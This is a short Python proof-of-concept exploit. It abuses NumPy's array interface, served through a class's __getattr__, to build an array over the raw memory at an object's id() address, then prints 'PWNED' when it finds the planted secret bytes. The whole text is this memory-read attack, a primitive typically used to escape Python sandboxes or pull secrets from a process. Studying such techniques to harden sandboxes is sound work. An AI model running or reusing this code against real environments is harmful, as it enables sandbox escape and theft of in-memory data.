import numpy as np
target = b"HELLO-SECRET-BYTES"
addr = id(target)
class C:
    def __getattr__(self, name):
        if name.startswith("__array_i"):
            return {"shape": (48,), "typestr": "|u1", "data": (addr, False), "version": 3}
        raise AttributeError(name)
try:
    b = np.asarray(C())
    raw = bytes(b)
    print("read", raw)
    if b"HELLO" in raw:
        print("PW" + "NED: read object memory at id() via __getattr__-served array interface:", raw[:48])
except Exception as e:
    print("err", type(e).__name__, e)
